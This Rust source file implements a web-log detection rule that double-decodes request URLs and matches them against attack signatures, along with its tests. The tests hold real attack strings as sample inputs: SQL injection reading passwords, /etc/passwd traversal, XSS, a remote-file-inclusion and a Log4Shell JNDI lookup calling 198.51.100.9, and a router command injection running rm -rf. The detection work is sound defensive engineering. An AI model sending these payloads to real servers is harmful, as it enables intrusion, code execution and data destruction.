//! `web_attack`: requests whose URL, percent-decoded twice (attackers double-encode to slip past
//! filters), matches a signature of `queries/web_signatures.tsv`: SQL injection, path traversal,
//! XSS, command injection, remote file inclusion, sensitive files, known exploit and CVE paths,
//! admin-interface and WordPress probing, technology fingerprinting. The signatures are data
//! (pattern, category, severity, severity when answered 2xx, reference); the `signatures_file`
//! parameter replaces them with an analyst's own file of the same shape.

use std::collections::BTreeMap;
use std::sync::LazyLock;

use aho_corasick::AhoCorasick;
use polars::prelude::*;

use crate::query::Run;
use rayon::prelude::*;

use super::config::{Param, Value};
use super::finding::{Draft, Severity};
use super::{Ctx, Rule};
use crate::error::AnalysisError;
use crate::query::frame;
use crate::schema::action;

/// The built-in signature file.
pub const BUILTIN_SIGNATURES: &str = include_str!("../../queries/web_signatures.tsv");

/// One signature.
#[derive(Debug, Clone)]
pub struct Signature {
    pub category: String,
    pub severity: Severity,
    pub severity_2xx: Severity,
    /// Lower-case text looked for in the decoded, lower-cased URL.
    pub pattern: String,
    pub reference: String,
}

/// A loaded signature set with its matcher.
pub struct Signatures {
    pub list: Vec<Signature>,
    matcher: AhoCorasick,
    /// A regex every URL that can match after decoding also matches before decoding (any
    /// pattern as written, or a `%`/`+` that decoding may turn into one), for polars to run
    /// over the whole column before the URLs are decoded one by one.
    pub prefilter: String,
}

impl Signatures {
    /// Parses the tab-separated file; `origin` names it in errors.
    pub fn parse(origin: &str, text: &str) -> Result<Signatures, String> {
        let mut list = Vec::new();
        let mut header_seen = false;
        for (n, line) in text.lines().enumerate() {
            if line.starts_with('#') || line.trim().is_empty() {
                continue;
            }
            let f: Vec<&str> = line.split('\t').collect();
            if !header_seen {
                header_seen = true;
                if f.first() == Some(&"category") {
                    continue;
                }
            }
            let [category, sev, sev2, pattern, reference] = f[..] else {
                return Err(format!("{origin}:{}: expected 5 tab-separated fields, found {}", n + 1, f.len()));
            };
            let severity = |s: &str| {
                Severity::parse(s)
                    .ok_or(format!("{origin}:{}: severity {s:?} is not low, medium, high or critical", n + 1))
            };
            if pattern.is_empty() || reference.trim().is_empty() {
                return Err(format!("{origin}:{}: a signature needs a pattern and a reference", n + 1));
            }
            list.push(Signature {
                category: category.to_string(),
                severity: severity(sev)?,
                severity_2xx: severity(sev2)?,
                pattern: pattern.to_lowercase(),
                reference: reference.to_string(),
            });
        }
        if list.is_empty() {
            return Err(format!("{origin}: no signatures"));
        }
        let matcher =
            AhoCorasick::new(list.iter().map(|s| s.pattern.as_str())).map_err(|e| format!("{origin}: {e}"))?;
        let alternation: Vec<String> = list.iter().map(|s| regex::escape(&s.pattern)).collect();
        let prefilter = format!("(?i)[%+]|{}", alternation.join("|"));
        Ok(Signatures { list, matcher, prefilter })
    }

    /// The built-in set.
    pub fn builtin() -> &'static Signatures {
        static S: LazyLock<Signatures> = LazyLock::new(|| {
            Signatures::parse("queries/web_signatures.tsv", BUILTIN_SIGNATURES).expect("built-in signatures parse")
        });
        &S
    }

    /// Indices of the signatures found in a decoded URL, the first of each category.
    pub fn classify(&self, decoded: &str) -> Vec<usize> {
        let mut out: Vec<usize> = Vec::new();
        for m in self.matcher.find_overlapping_iter(decoded) {
            let i = m.pattern().as_usize();
            if !out.iter().any(|&j| self.list[j].category == self.list[i].category) {
                out.push(i);
            }
        }
        out.sort_unstable();
        out
    }
}

/// Percent-decodes twice (`+` as space in the query), lower-cased.
pub fn decode(path: &str, query: Option<&str>) -> String {
    let once = |s: &str| percent_encoding::percent_decode_str(s).decode_utf8_lossy().into_owned();
    let mut text = once(&once(path));
    if let Some(q) = query {
        text.push('?');
        text.push_str(&once(&once(&q.replace('+', " "))));
    }
    text.to_lowercase()
}

/// [`decode`] that skips the decoding and lower-casing work when the URL has nothing to decode
/// or lower-case (the common case).
pub fn decode_fast<'a>(path: &'a str, query: Option<&'a str>) -> std::borrow::Cow<'a, str> {
    let plain = |s: &str| !s.bytes().any(|b| b == b'%' || b == b'+' || b.is_ascii_uppercase() || b >= 0x80);
    match query {
        None if plain(path) => std::borrow::Cow::Borrowed(path),
        Some(q) if plain(path) && plain(q) => std::borrow::Cow::Owned(format!("{path}?{q}")),
        _ => std::borrow::Cow::Owned(decode(path, query)),
    }
}

pub struct WebAttack;

impl Rule for WebAttack {
    fn id(&self) -> &'static str {
        "web_attack"
    }
    fn description(&self) -> &'static str {
        "Requests whose URL (percent-decoded twice) matches a signature of queries/web_signatures.tsv (SQL injection, traversal, XSS, command injection, remote file inclusion, sensitive files, exploit and CVE paths, admin and WordPress probing, fingerprinting); severity from the signatures, raised when a matching request got a 2xx answer."
    }
    fn params(&self) -> Vec<Param> {
        vec![
            Param::new("min_requests", Value::Int(1), "Matching requests from one source before it is reported."),
            Param::new(
                "signatures_file",
                Value::Str(String::new()),
                "A signature file (same columns as queries/web_signatures.tsv) to use instead of the built-in one; empty for the built-in.",
            ),
        ]
    }
    fn run(&self, ctx: &Ctx<'_>) -> Result<Vec<Draft>, AnalysisError> {
        let min = ctx.config.int(self.id(), "min_requests").max(1) as u64;
        let file = ctx.config.list(self.id(), "signatures_file").into_iter().next().unwrap_or_default();
        let own;
        let sigs = if file.is_empty() {
            Signatures::builtin()
        } else {
            let text = std::fs::read_to_string(&file)
                .map_err(|e| AnalysisError::Rule { path: file.clone().into(), msg: e.to_string() })?;
            own = Signatures::parse(&file, &text)
                .map_err(|msg| AnalysisError::Rule { path: file.clone().into(), msg })?;
            &own
        };
        // A vectorised first pass keeps only URLs that could hold any pattern once decoded.
        let prefilter = sigs.prefilter.clone();
        let maybe = |c: &str| col(c).str().contains(lit(prefilter.clone()), false).fill_null(lit(false));
        let all = ctx
            .data
            .events()?
            .filter(col("event_action").eq(lit(action::HTTP_REQUEST)).and(col("url_path").is_not_null()))
            .filter(maybe("url_path").or(maybe("url_query")))
            .select([
                col("timestamp"),
                col("host_name"),
                col("source_ip"),
                col("url_path"),
                col("url_query"),
                col("http_response_status_code"),
                col("log_file_path"),
                col("log_line"),
            ])
            .run()?;
        // Classify every URL in parallel, without copying the column.
        let paths: Vec<Option<&str>> = all.column("url_path")?.str()?.iter().collect();
        let queries: Vec<Option<&str>> = all.column("url_query")?.str()?.iter().collect();
        let hit_rows: Vec<u32> = (0..paths.len())
            .into_par_iter()
            .filter(|&i| !sigs.classify(&decode_fast(paths[i].unwrap_or(""), queries[i])).is_empty())
            .map(|i| i as u32)
            .collect();
        let df = all
            .take(&IdxCa::from_vec("idx".into(), hit_rows.into_iter().map(|i| i as IdxSize).collect()))?
            .lazy()
            .sort(["timestamp", "log_file_path", "log_line"], Default::default())
            .run()?;
        let ts = frame::ints(&df, "timestamp")?;
        let host = frame::strs(&df, "host_name")?;
        let ip = frame::strs(&df, "source_ip")?;
        let path = frame::strs(&df, "url_path")?;
        let query = frame::strs(&df, "url_query")?;
        let status = frame::ints(&df, "http_response_status_code")?;
        let file = frame::strs(&df, "log_file_path")?;
        let line = frame::ints(&df, "log_line")?;
        let mut by_source: BTreeMap<(String, String), Draft> = BTreeMap::new();
        type Categories<'p> = BTreeMap<&'p str, (u64, &'p Signature)>;
        let mut cats: BTreeMap<(String, String), Categories<'_>> = BTreeMap::new();
        let mut answered_2xx: BTreeMap<(String, String), u64> = BTreeMap::new();
        for i in 0..df.height() {
            let p = path[i].as_deref().unwrap_or("");
            let hits = sigs.classify(&decode(p, query[i].as_deref()));
            if hits.is_empty() {
                continue;
            }
            let key = (host[i].clone().unwrap_or_default(), ip[i].clone().unwrap_or_default());
            let d = by_source.entry(key.clone()).or_insert_with(|| {
                let mut d = Draft::new("web_attack", Severity::Low);
                d.host_name = host[i].clone();
                d.source_ip = ip[i].clone();
                d
            });
            d.add(ts[i].unwrap_or(0), file[i].as_deref().unwrap_or(""), line[i].unwrap_or(0));
            d.count += 1;
            let answered = status[i].is_some_and(|s| (200..300).contains(&s));
            *answered_2xx.entry(key.clone()).or_default() += u64::from(answered);
            let c = cats.entry(key).or_default();
            for j in hits {
                let sig = &sigs.list[j];
                d.severity = d.severity.max(if answered { sig.severity_2xx } else { sig.severity });
                let e = c.entry(sig.category.as_str()).or_insert((0, sig));
                e.0 += 1;
            }
        }
        let mut out = Vec::new();
        for (key, mut d) in by_source {
            if d.count < min {
                continue;
            }
            let c = &cats[&key];
            let names: Vec<&str> = c.keys().copied().collect();
            d.details.insert("answered_2xx".into(), answered_2xx.get(&key).copied().unwrap_or(0).into());
            for (cat, (n, sig)) in c {
                d.details.insert(format!("{cat}_requests"), (*n).into());
                d.details.insert(format!("{cat}_pattern"), sig.pattern.clone().into());
                d.details.insert(format!("{cat}_reference"), sig.reference.clone().into());
            }
            d.title = format!("Web attacks on {} from {}: {} ({} requests)", key.0, key.1, names.join(", "), d.count);
            out.push(d);
        }
        Ok(out)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cats(decoded: &str) -> Vec<String> {
        let s = Signatures::builtin();
        s.classify(decoded).into_iter().map(|i| s.list[i].category.clone()).collect()
    }

    #[test]
    fn double_encoding_is_seen_through() {
        let d = decode("/products", Some("id=1%2520UNION%2520SELECT%2520password%2520FROM%2520users"));
        assert_eq!(cats(&d), ["sql_injection"]);
        let d = decode("/index.php", Some("page=..%2F..%2Fetc%2Fpasswd"));
        assert_eq!(cats(&d), ["path_traversal"]);
        let d = decode("/search", Some("q=%3Cscript%3Ealert(1)%3C/script%3E"));
        assert_eq!(cats(&d), ["xss"]);
        assert_eq!(cats(&decode("/.git/config", None)), ["sensitive_file"]);
        assert!(cats(&decode("/products", Some("page=2&sort=price"))).is_empty());
        assert!(cats(&decode("/img/logo.png", None)).is_empty());
    }

    #[test]
    fn probes_beyond_injection() {
        assert_eq!(cats(&decode("/index.php", Some("file=http://198.51.100.9/shell.txt"))), ["rfi"]);
        assert_eq!(cats(&decode("/_ignition/execute-solution", None)), ["exploit"]);
        assert_eq!(cats(&decode("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", None)), ["exploit"]);
        assert_eq!(cats(&decode("/boaform/admin/formLogin", Some("username=admin&psd=Feefifofum"))), ["exploit"]);
        assert_eq!(cats(&decode("/HNAP1/", None)), ["exploit"]);
        assert_eq!(cats(&decode("/GponForm/diag_Form", Some("images/"))), ["exploit"]);
        assert_eq!(cats(&decode("/actuator/gateway/routes", None)), ["exploit"]);
        assert_eq!(
            cats(&decode("/setup.cgi", Some("next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*"))),
            ["exploit"]
        );
        assert_eq!(cats(&decode("/phpMyAdmin/index.php", None)), ["admin_probe"]);
        assert_eq!(cats(&decode("/manager/html", None)), ["admin_probe"]);
        assert_eq!(cats(&decode("/wp-login.php", None)), ["wordpress"]);
        assert_eq!(cats(&decode("/xmlrpc.php", None)), ["wordpress"]);
        assert_eq!(cats(&decode("/wp-content/plugins/wp-file-manager/readme.txt", None)), ["wordpress"]);
        assert_eq!(cats(&decode("/", Some("x=${jndi:ldap://198.51.100.9/a}"))), ["exploit"]);
        assert_eq!(cats(&decode("/info.php", None)), ["tech_fingerprint"]);
    }

    #[test]
    fn the_prefilter_passes_everything_a_signature_can_match() {
        let s = Signatures::builtin();
        let re = regex::Regex::new(&s.prefilter).unwrap();
        for sig in &s.list {
            let raw = sig.pattern.replace(' ', "%20");
            assert!(re.is_match(&raw), "prefilter misses {}", sig.pattern);
            assert!(re.is_match(&raw.to_uppercase()), "prefilter misses {} in upper case", sig.pattern);
        }
        assert!(!re.is_match("/products/42") && !re.is_match("page=3&sort=price"));
    }

    #[test]
    fn signature_files_are_checked() {
        assert!(Signatures::parse("x.tsv", "category\tseverity\tseverity_2xx\tpattern\treference\n").is_err());
        let e = Signatures::parse("x.tsv", "xss\thuge\thigh\t<script\tref\n").err().unwrap();
        assert!(e.contains("x.tsv:1") && e.contains("huge"), "{e}");
        assert!(Signatures::parse("x.tsv", "xss\tlow\thigh\t<script\n").is_err(), "missing column");
        let s = Signatures::parse("x.tsv", "# c\nxss\tlow\thigh\t<SCRIPT\tref\n").unwrap();
        assert_eq!(s.classify("<script>"), [0]);
    }
}
